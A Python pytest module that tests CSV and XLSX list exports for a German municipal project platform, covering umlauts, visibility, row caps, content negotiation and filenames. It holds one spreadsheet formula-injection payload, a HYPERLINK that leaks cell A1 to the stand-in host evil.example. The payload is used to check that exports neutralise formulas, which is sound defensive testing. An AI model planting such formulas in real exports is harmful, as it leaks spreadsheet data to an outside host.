"""Every list as CSV or XLSX through the gateway: the whole filtered list the caller may
see, as a file a German Excel opens right, and nothing the JSON list would not show."""

import contextlib
import csv
import io
import urllib.parse
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import openpyxl
import pytest
from fastapi import FastAPI

from shared.kit.export import CSV_MEDIA_TYPE, XLSX_MEDIA_TYPE
from tests.conftest import Platform, eventually, raw_http, running_platform
from tests.funding.receiver import receiver
from tests.funding.test_calls import call_body
from tests.knowledge.test_articles import ARTICLE, PERSON
from tests.knowledge.test_solutions import SOLUTION

INJECTION = '=HYPERLINK("https://evil.example/?leak="&A1,"Klick")'


@dataclass
class Region:
    """Two municipalities with keys, their projects and one of everything else."""

    ags: str
    other_ags: str
    own: httpx.AsyncClient
    other: httpx.AsyncClient
    coordinator: httpx.AsyncClient
    public_id: str
    injected_id: str
    private_id: str
    other_private_id: str
    other_region_id: str
    call_id: str
    solution_id: str
    subscription_id: str
    webhook_id: str


def read_csv(response: httpx.Response) -> list[dict[str, str]]:
    assert response.content.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM for umlauts"
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def read_xlsx(response: httpx.Response) -> list[dict[str, Any]]:
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    header = [str(title) for title in rows[0]]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


def filename_of(response: httpx.Response) -> str:
    """The UTF-8 filename* of a Content-Disposition attachment (RFC 6266)."""
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment;"), disposition
    encoded = disposition.split("filename*=UTF-8''", 1)[1]
    return urllib.parse.unquote(encoded)


@contextlib.contextmanager
def export_cap(app: FastAPI, rows: int) -> Iterator[None]:
    """Lower a running service's LOTSE_EXPORT_MAX_ROWS for one test; it is read per request."""
    settings = app.state.settings
    before = settings.export_max_rows
    settings.export_max_rows = rows
    try:
        yield
    finally:
        settings.export_max_rows = before


async def publish(client: httpx.AsyncClient, **body: Any) -> str:
    response = await client.post("/api/v1/projects", json={"topics": ["broadband"]} | body)
    assert response.status_code == 201, response.text
    return str(response.json()["id"])


@pytest.fixture(scope="module")
async def region(platform: Platform) -> AsyncIterator[Region]:
    ags = await platform.municipality(name="Bürgerstadt Öhringen")
    other_ags = await platform.municipality()
    own = platform.client(await platform.key("municipality", ags))
    other = platform.client(await platform.key("municipality", other_ags))
    coordinator = platform.client(await platform.key("coordinator"))
    public_id = await publish(
        own,
        title="Glasfaser für Ärztehäuser",
        topics=["broadband", "health_care"],
        visibility="public",
        budget_eur=12500.5,
        start_date="2026-03-01",
        contact={"name": "Jörg Müßig", "email": "joerg@teststadt.example"},
        indicators=[{"name": "Anschlüsse", "unit": "Häuser", "target": 40}],
    )
    injected_id = await publish(own, title=INJECTION, summary="-2+3", visibility="region")
    private_id = await publish(own, title="Eigenes Geheimprojekt", visibility="private")
    other_private_id = await publish(
        other, title="Fremdes Geheimprojekt", topics=["mobility"], visibility="private"
    )
    other_region_id = await publish(
        other, title="Fremdes Regionsprojekt", topics=["mobility"], visibility="region"
    )
    call = await coordinator.post("/api/v1/funding-calls", json=call_body(title="Förder-Ö"))
    assert call.status_code == 201, call.text
    solution = await coordinator.post("/api/v1/solutions", json=SOLUTION)
    assert solution.status_code == 201, solution.text
    solution_id = str(solution.json()["id"])
    adoption = await own.post(
        "/api/v1/adoptions", json={"solution_id": solution_id, "status": "live"}
    )
    assert adoption.status_code == 201, adoption.text
    article = await own.post("/api/v1/articles", json=ARTICLE | {"visibility": "public"})
    assert article.status_code == 201, article.text
    person = await own.post("/api/v1/contacts", json=PERSON)
    assert person.status_code == 201, person.text
    async with receiver() as box:
        subscription = await own.post(
            "/api/v1/subscriptions",
            json={"name": "Intranet Ü", "channel": "webhook", "url": box.url},
        )
        assert subscription.status_code == 201, subscription.text
        hook = {"url": box.url, "event_types": ["de.lotse.project.created.v1"]}
        webhook = await own.post("/api/v1/webhooks", json=hook)
        assert webhook.status_code == 201, webhook.text
        webhook_id = str(webhook.json()["id"])
        ping = await own.post(f"/api/v1/webhooks/{webhook_id}/ping")
        assert ping.status_code == 202, ping.text
        yield Region(
            ags=ags,
            other_ags=other_ags,
            own=own,
            other=other,
            coordinator=coordinator,
            public_id=public_id,
            injected_id=injected_id,
            private_id=private_id,
            other_private_id=other_private_id,
            other_region_id=other_region_id,
            call_id=str(call.json()["id"]),
            solution_id=solution_id,
            subscription_id=str(subscription.json()["id"]),
            webhook_id=webhook_id,
        )


def list_paths(region: Region) -> list[str]:
    """Every list of the API, as the municipality of `region` may read it."""
    return [
        "/api/v1/projects",
        "/api/v1/funding-calls",
        f"/api/v1/funding-calls/{region.call_id}/matching-projects",
        f"/api/v1/projects/{region.public_id}/funding-matches",
        "/api/v1/subscriptions",
        f"/api/v1/subscriptions/{region.subscription_id}/deliveries",
        "/api/v1/municipalities",
        "/api/v1/api-keys",
        "/api/v1/feed",
        "/api/v1/solutions",
        "/api/v1/adoptions",
        f"/api/v1/solutions/{region.solution_id}/adoptions",
        f"/api/v1/municipalities/{region.ags}/solutions",
        "/api/v1/articles",
        "/api/v1/contacts",
        "/api/v1/search",
        "/api/v1/topics",
        "/api/v1/webhooks",
        f"/api/v1/webhooks/{region.webhook_id}/deliveries",
    ]


class TestEveryList:
    async def test_every_list_exports_what_its_json_shows(self, region: Region) -> None:
        for path in list_paths(region):
            for fmt, read in (("csv", read_csv), ("xlsx", read_xlsx)):

                async def same_as_json(path: str = path, fmt: str = fmt, read: Any = read) -> bool:
                    # Feed, search and matches fill from events: compare a settled list.
                    before = await region.own.get(path, params={"limit": 50})
                    assert before.status_code == 200, (path, before.text)
                    response = await region.own.get(path, params={"format": fmt})
                    assert response.status_code == 200, (path, fmt, response.text)
                    media_type = response.headers["content-type"].split(";")[0]
                    assert media_type == (CSV_MEDIA_TYPE if fmt == "csv" else XLSX_MEDIA_TYPE)
                    assert filename_of(response).endswith(f".{fmt}"), path
                    after = await region.own.get(path, params={"limit": 50})
                    items = after.json()["items"]
                    if before.json()["items"] != items:
                        return False
                    rows = read(response)
                    header = set(rows[0]) if rows else set()
                    ids = sorted(str(item.get("id")) for item in items)
                    return len(rows) == len(items) and (
                        "id" not in header or sorted(str(r["id"]) for r in rows) == ids
                    )

                assert await eventually(same_as_json), (path, fmt)

    async def test_the_accept_header_chooses_the_format(self, region: Region) -> None:
        as_csv = await region.own.get("/api/v1/solutions", headers={"Accept": CSV_MEDIA_TYPE})
        assert as_csv.headers["content-type"] == "text/csv; charset=utf-8"
        as_xlsx = await region.own.get("/api/v1/articles", headers={"Accept": XLSX_MEDIA_TYPE})
        assert as_xlsx.headers["content-type"] == XLSX_MEDIA_TYPE
        assert read_xlsx(as_xlsx)[0]["title"] == ARTICLE["title"]
        browser = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
        as_json = await region.own.get("/api/v1/feed", headers={"Accept": browser})
        assert as_json.headers["content-type"] == "application/json"
        # ?format wins over Accept: a link in a browser sends the browser's Accept.
        linked = await region.own.get(
            "/api/v1/municipalities", params={"format": "csv"}, headers={"Accept": browser}
        )
        assert linked.headers["content-type"].startswith(CSV_MEDIA_TYPE)

    async def test_answers_chosen_by_accept_tell_caches_so(self, region: Region) -> None:
        # One URL answers JSON, CSV or XLSX by Accept: a cache must not hand one for another.
        for path in ("/api/v1/solutions", "/api/v1/municipalities"):
            for accept in ("application/json", CSV_MEDIA_TYPE, XLSX_MEDIA_TYPE):
                answer = await region.own.get(path, headers={"Accept": accept})
                assert "accept" in answer.headers.get("vary", "").lower(), (path, accept)
                headers = {"Accept": accept, "If-None-Match": answer.headers["etag"]}
                again = await region.own.get(path, headers=headers)
                assert again.status_code == 304, (path, accept)
                assert "accept" in again.headers.get("vary", "").lower(), (path, accept)

    async def test_a_file_has_a_german_name_and_a_plain_fallback(self, region: Region) -> None:
        response = await region.own.get("/api/v1/funding-calls", params={"format": "xlsx"})
        assert filename_of(response).startswith("Förderaufrufe-")
        assert 'filename="Foerderaufrufe-' in response.headers["content-disposition"]


class TestProjects:
    async def test_umlauts_dates_and_nested_values_survive_csv(self, region: Region) -> None:
        response = await region.own.get(
            "/api/v1/projects", params={"format": "csv", "municipality": region.ags}
        )
        rows = {row["id"]: row for row in read_csv(response)}
        row = rows[region.public_id]
        assert row["title"] == "Glasfaser für Ärztehäuser"
        assert row["topics"] == "broadband, health_care"
        assert (row["contact_name"], row["contact_email"]) == (
            "Jörg Müßig",
            "joerg@teststadt.example",
        )
        assert row["indicators"] == "Anschlüsse (unit: Häuser, target: 40)"
        assert row["budget_eur"] == "12500,5"  # German Excel's decimal comma
        assert row["start_date"] == "2026-03-01"
        assert row["municipality_ags"] == region.ags

    async def test_xlsx_keeps_types_and_text(self, region: Region) -> None:
        response = await region.own.get(
            "/api/v1/projects", params={"format": "xlsx", "municipality": region.ags}
        )
        workbook = openpyxl.load_workbook(io.BytesIO(response.content))
        sheet = workbook.active
        assert sheet is not None
        assert sheet.freeze_panes == "A2" and sheet["A1"].font.b
        rows = {row["id"]: row for row in read_xlsx(response)}
        row = rows[region.public_id]
        assert row["budget_eur"] == 12500.5
        assert row["start_date"].date().isoformat() == "2026-03-01"
        assert row["municipality_ags"] == region.ags  # text: the leading zero stays
        assert row["updated_at"].year >= 2026

    async def test_formulas_are_neutralised(self, region: Region) -> None:
        csv_rows = read_csv(await region.own.get("/api/v1/projects", params={"format": "csv"}))
        (row,) = [r for r in csv_rows if r["id"] == region.injected_id]
        assert row["title"] == "'" + INJECTION and row["summary"] == "'-2+3"
        response = await region.own.get("/api/v1/projects", params={"format": "xlsx"})
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        assert sheet is not None
        cells = [c for c in sheet["C"] if c.value == INJECTION]  # title is the third column
        assert [c.data_type for c in cells] == ["s"] and cells[0].quotePrefix

    async def test_a_municipality_never_exports_anothers_private_project(
        self, region: Region
    ) -> None:
        for fmt, read in (("csv", read_csv), ("xlsx", read_xlsx)):
            response = await region.own.get("/api/v1/projects", params={"format": fmt})
            ids = {str(row["id"]) for row in read(response)}
            assert {region.private_id, region.other_region_id, region.public_id} <= ids
            assert region.other_private_id not in ids

    async def test_anonymous_exports_hold_public_projects_only(
        self, platform: Platform, region: Region
    ) -> None:
        anonymous = platform.client()
        for fmt, read in (("csv", read_csv), ("xlsx", read_xlsx)):
            response = await anonymous.get("/api/v1/projects", params={"format": fmt})
            rows = read(response)
            assert {row["visibility"] for row in rows} == {"public"}
            assert region.public_id in {str(row["id"]) for row in rows}

    async def test_filters_apply_to_the_whole_list(self, region: Region) -> None:
        response = await region.own.get(
            "/api/v1/projects",
            params={"format": "csv", "topic": "mobility", "limit": 1, "cursor": "ignored"},
        )
        assert response.status_code == 200, response.text
        ids = {row["id"] for row in read_csv(response)}
        assert region.other_region_id in ids and region.public_id not in ids

    async def test_a_list_over_the_cap_is_refused_with_advice(
        self, platform: Platform, region: Region
    ) -> None:
        with export_cap(platform.projects, 2):
            over = await region.own.get(
                "/api/v1/projects", params={"format": "xlsx", "municipality": region.ags}
            )
            assert over.status_code == 422, over.text
            assert over.headers["content-type"] == "application/problem+json"
            assert over.json()["type"].endswith("/export-too-large")
            assert "narrow the filters" in over.json()["detail"]
            narrowed = await region.own.get(
                "/api/v1/projects",
                params={"format": "csv", "municipality": region.ags, "visibility": "public"},
            )
            assert narrowed.status_code == 200 and len(read_csv(narrowed)) == 1
            # JSON pages are not exports: the cap does not touch them.
            paged = await region.own.get("/api/v1/projects", params={"municipality": region.ags})
            assert paged.json()["total"] == 3


class TestOtherServicesKeepTheirVisibility:
    async def test_search_exports_what_the_caller_may_find(
        self, platform: Platform, region: Region
    ) -> None:
        params = {"format": "csv", "kind": "project", "q": "Geheimprojekt Regionsprojekt"}

        async def indexed() -> list[dict[str, str]] | None:
            rows = read_csv(await region.own.get("/api/v1/search", params=params))
            return rows if region.other_region_id in {r["id"] for r in rows} else None

        rows = await eventually(indexed)
        found = {row["id"] for row in rows}
        assert region.private_id in found and region.other_private_id not in found
        anonymous = await platform.client().get(
            "/api/v1/search", params=params | {"format": "xlsx"}
        )
        assert read_xlsx(anonymous) == []

    async def test_the_feed_export_hides_what_the_feed_hides(
        self, platform: Platform, region: Region
    ) -> None:
        async def recorded() -> set[str] | None:
            response = await region.other.get("/api/v1/feed", params={"format": "xlsx"})
            subjects = {str(row["subject"]) for row in read_xlsx(response)}
            return subjects if region.other_private_id in subjects else None

        assert region.private_id not in await eventually(recorded)
        anonymous = platform.client()

        async def public() -> set[str] | None:
            response = await anonymous.get("/api/v1/feed", params={"format": "csv"})
            subjects = {row["subject"] for row in read_csv(response)}
            return subjects if region.public_id in subjects else None

        subjects = await eventually(public)
        assert not subjects & {region.private_id, region.other_private_id, region.injected_id}


class TestGatewayLists:
    async def test_the_gateways_own_lists_have_the_cap_too(
        self, platform: Platform, region: Region
    ) -> None:
        with export_cap(platform.gateway, 1):
            over = await region.own.get("/api/v1/municipalities", params={"format": "csv"})
            assert over.status_code == 422 and over.json()["type"].endswith("/export-too-large")
            one = await region.own.get(
                "/api/v1/municipalities", params={"format": "csv", "land": "99"}
            )
            assert one.status_code == 200 and read_csv(one) == []

    async def test_municipality_names_keep_their_umlauts(self, region: Region) -> None:
        response = await region.own.get("/api/v1/municipalities", params={"format": "xlsx"})
        names = {row["ags"]: row["name"] for row in read_xlsx(response)}
        assert names[region.ags] == "Bürgerstadt Öhringen"


class TestBadRequests:
    async def test_an_unknown_format_is_a_422_naming_the_parameter(self, region: Region) -> None:
        for value in ("pdf", "CSV", "", "csv\u00e4"):
            response = await region.own.get("/api/v1/projects", params={"format": value})
            assert response.status_code == 422, (value, response.text)
            assert response.json()["errors"][0]["field"] == "format"

    async def test_an_accept_naming_no_format_is_a_406(self, region: Region) -> None:
        for accept in ("application/pdf", "text/csv;q=0, application/json;q=0", "image/*"):
            response = await region.own.get("/api/v1/contacts", headers={"Accept": accept})
            assert response.status_code == 406, (accept, response.text)
            assert response.headers["content-type"] == "application/problem+json"

    async def test_members_only_lists_stay_closed_as_files(self, platform: Platform) -> None:
        anonymous = platform.client()
        for path in ("/api/v1/contacts", "/api/v1/adoptions", "/api/v1/api-keys"):
            response = await anonymous.get(path, params={"format": "csv"})
            assert response.status_code == 401, path


class TestOverTheWire:
    async def test_an_intranet_page_may_read_the_file_name(self, tmp_path: Path) -> None:
        intranet = "https://intranet.kreis-beispiel.de"
        async with running_platform("sqlite", tmp_path, cors_origins=intranet) as platform:
            response = await platform.client().get(
                "/api/v1/municipalities", params={"format": "xlsx"}, headers={"Origin": intranet}
            )
            assert response.headers["access-control-allow-origin"] == intranet
            exposed = response.headers["access-control-expose-headers"].lower()
            assert "content-disposition" in exposed.split(", ")
            assert filename_of(response).startswith("Kommunen-")

    async def test_the_disposition_header_crosses_the_gateway(
        self, platform: Platform, region: Region
    ) -> None:
        key = region.own.headers["authorization"]
        target = urllib.parse.urlsplit(platform.gateway_url)
        head = (
            "GET /api/v1/solutions?format=csv HTTP/1.1\r\n"
            f"Host: {target.netloc}\r\nAuthorization: {key}"
        ).encode()
        response = await raw_http(platform.gateway_url, head)
        assert response.status == 200
        disposition = response.header("content-disposition")
        assert disposition is not None
        assert "filename*=UTF-8''L%C3%B6sungen-" in disposition
        assert response.body.startswith(b"\xef\xbb\xbfid;")
